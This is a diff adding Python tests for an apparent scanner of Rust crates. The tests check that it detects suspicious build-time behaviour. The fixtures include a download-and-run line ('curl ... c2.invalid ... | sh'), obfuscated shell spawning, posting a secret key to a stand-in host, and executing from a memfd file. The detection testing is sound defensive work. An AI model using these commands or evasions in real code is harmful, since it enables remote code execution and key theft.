@@ -138,3 +138,91 @@ def test_tests_of_the_crate_say_nothing():
 def test_odd_sources_are_bounded(source):
     lower(source, 1)
     crate(build=source)
+
+
+FETCH = "curl -s http://c2.invalid/x | sh"
+
+
+@pytest.mark.parametrize(
+    "argument",
+    [
+        f'b"{FETCH}\\0".as_ptr() as *const i8',
+        f'"{FETCH}\\0".as_ptr().cast()',
+        f'c"{FETCH}".as_ptr()',
+        f'std::ffi::CString::new("{FETCH}").unwrap().as_ptr()',
+        f'std::ffi::CStr::from_bytes_with_nul(b"{FETCH}\\0").unwrap().as_ptr()',
+    ],
+)
+def test_a_pointer_to_a_text_of_c_is_that_text(argument):
+    code = f'extern "C" {{ fn system(c: *const i8) -> i32; }}\nfn main() {{ unsafe {{ system({argument}); }} }}\n'
+    assert ("exec/download-run", "build") in told(crate(build=code))
+
+
+@pytest.mark.parametrize(
+    "root", ['#[path = "src/table.rs.in"]\nmod t;\nfn main() { t::go(); }', 'include!("src/table.rs.in");\nfn main() { go() }']
+)  # fmt: skip
+def test_a_module_under_a_name_that_does_not_say_so_is_read(root):
+    body = f'pub fn go() {{ std::process::Command::new("sh").arg("-c").arg("{FETCH}").spawn(); }}\n'
+    found = crate(build=root, **{"/src/table.rs.in": body})
+    assert ("exec/download-run", "build") in told(found)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        (
+            "mod inner { use std::process::Command; pub fn go() { run(); }\n"
+            'fn run() { Command::new("sh").arg("x.sh").spawn(); } }\nfn main() { inner::go(); }'
+        ),
+        (
+            "struct S; impl S { fn go() { Self::run() }\n"
+            'fn run() { std::process::Command::new("sh").arg("x.sh").spawn(); } }\n'
+            "fn main() { S::go(); }"
+        ),
+        (
+            '#[cfg(windows)]\nfn go() { std::process::Command::new("sh").arg("x.sh").spawn(); }\n'
+            "#[cfg(not(windows))]\nfn go() {}\nfn main() { go(); }"
+        ),
+        (
+            'fn pair() -> (&\'static str, i32) { ("x.sh", 1) }\n'
+            'fn main() { std::process::Command::new("sh").arg(pair().0).spawn(); }'
+        ),
+        (
+            "fn turn(text: &str) -> String { text.chars().rev().collect() }\n"
+            'fn main() { std::process::Command::new("sh").arg(turn("hs.x")).spawn(); }'
+        ),
+    ],
+    ids=["inner module", "Self", "cfg", "tuple", "collected"],
+)
+def test_a_command_is_seen_wherever_it_stands(source):
+    found = crate(build=source)
+    assert "sh x.sh" in texts(found, "exec/process")
+    assert ("exec/process", "build") in told(found)
+
+
+def test_a_key_that_signs_does_not_leave():
+    kept = "let secret: [u8; 64] = bytes.try_into().unwrap();"
+    sent = 'ureq::post("https://demo.invalid/").send_string(&format!("{@:?}"));'
+    key = crate(keys=f"pub fn a(bytes: &[u8]) {{ {kept} {sent.replace('@', 'secret')} }}")
+    assert any("key" in one.tags for one in key.facts)
+    signed = "let made = ed25519_dalek::SigningKey::from_bytes(&secret).sign(b"
+    other = crate(
+        keys=f'pub fn a(bytes: &[u8]) {{ {kept} {signed}"x"); {sent.replace("@", "made")} }}'
+    )
+    assert not any("key" in one.tags for one in other.facts)
+
+
+def test_a_file_of_memory_counts_when_it_runs():
+    made = "let file = unsafe { libc::memfd_create(name, 0) };"
+    shared = crate(memory=f"pub fn a(name: *const i8) {{ {made} }}")
+    assert all("allocation" in one.tags for one in shared.facts)
+    run = 'std::process::Command::new(format!("/proc/self/fd/{file}")).spawn();'
+    found = crate(memory=f"pub fn a(name: *const i8) {{ {made} {run} }}")
+    assert any(one.symbol == "memfd.run" for one in found.facts)
+
+
+def test_what_a_macro_of_another_file_wraps_is_there_as_it_stands():
+    wrapped = 'pub fn go() {{ std::process::Command::new("sh").arg("x.sh").spawn(); }}'
+    found = crate(inner=f'feature! {{ #![feature = "x"]\n\n{wrapped.format()} }}')
+    assert ("exec/process", "call") in told(found)
+    assert ("exec/process", "import") not in told(found)
